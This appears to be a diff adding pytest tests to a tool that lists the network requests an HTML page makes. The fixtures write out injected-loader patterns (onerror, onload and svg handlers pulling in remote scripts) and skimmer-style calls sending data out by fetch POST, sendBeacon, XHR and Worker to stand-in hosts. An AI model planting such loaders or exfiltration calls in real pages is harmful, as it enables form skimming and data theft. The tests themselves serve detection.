@@ -386,6 +386,56 @@ def test_the_start_of_a_src_a_script_writes_is_a_request(
     assert [(f.url, f.type) for f in walk(root, BASE) if f.assigned] == expected
 
 
+def test_an_event_handlers_loader_is_a_request() -> None:
+    """An injected loader needs no `<script>`: an image's `onerror`, an `<svg onload>`,
+    a `<body onload>` run code the moment the page loads."""
+    html = ('<body onload="new Image().src=\'https://px.test/p.gif\'">'
+            '<img src="x" onerror="var s=document.createElement(&quot;script&quot;);'
+            's.src=&quot;https://a.magsrv.com/x.js&quot;;document.head.appendChild(s)">'
+            '<svg onload="fetch(\'https://collect.test/c\')"></svg>'
+            '<span onmouseover="x(\'not a url\')">hover</span></body>')
+    assert found(html) == [
+        ("https://px.test/p.gif", T.IMAGE, "body[onload]"),
+        ("https://a.magsrv.com/x.js", T.SCRIPT, "img[onerror]"),
+        ("https://site.test/dir/x", T.IMAGE, "img[src]"),
+        ("https://collect.test/c", T.XMLHTTPREQUEST, "svg[onload]"),
+    ]
+
+
+@pytest.mark.parametrize(("script", "kind"), [
+    ("fetch('https://collect.test/c', {method: 'POST'})", T.XMLHTTPREQUEST),
+    ("navigator.sendBeacon('https://collect.test/c', data)", T.PING),
+    ("var x = new XMLHttpRequest(); x.open('POST', 'https://collect.test/c')", T.XMLHTTPREQUEST),
+    ("var es = new EventSource('https://collect.test/c')", T.XMLHTTPREQUEST),
+    ("import('https://collect.test/c')", T.SCRIPT),
+    ("import {a} from 'https://collect.test/c'", T.SCRIPT),
+    ("const w = new Worker('https://collect.test/c')", T.SCRIPT),
+])
+def test_a_call_that_requests_its_address_is_a_request(script: str, kind: T) -> None:
+    """A skimmer sends what it reads out by `fetch`, a beacon or an XHR, to a host no
+    catalogue knows: the call makes the request, whatever the address's extension."""
+    assert found(f"<script>{script}</script>") == [("https://collect.test/c", kind,
+                                                   "inline-script")]
+
+
+def test_a_data_structures_images_and_pages_are_no_requests() -> None:
+    """A page's state and a config name images, pages and profiles its code may or may
+    not use (a JSON image's `"src"` too); the code they configure (`.js`, `.css`) is
+    loaded all the same, and code's `src:` is an assignment."""
+    html = ('<script>window.__STATE__ = {"hero": {"url": "https://img.test/a/1200x800.jpg",'
+            '"src": "https://img.test/a/600x400.jpg"}, "nav": ["https://site.test/p/about.html"],'
+            ' "ads": {"scriptUrl": "https://ads.test/t.js"},'
+            '"theme": {"sheet": "https://cdn.test/t.css"}};'
+            "frame({src: 'https://cdn.test/frame.html'});"
+            'var i = new Image(); i.src = "https://px.test/p.gif";</script>')
+    assert found(html) == [
+        ("https://ads.test/t.js", T.SCRIPT, "inline-script"),
+        ("https://cdn.test/t.css", T.STYLESHEET, "inline-script"),
+        ("https://cdn.test/frame.html", T.SUBDOCUMENT, "inline-script"),
+        ("https://px.test/p.gif", T.IMAGE, "inline-script"),
+    ]
+
+
 def test_a_style_sheets_imports_and_urls_are_requests() -> None:
     """A `<style>` sheet requests what it `@import`s and its `url()`s (a font by its
     extension); a comment, a sheet of another type and a `url(` in text request nothing.
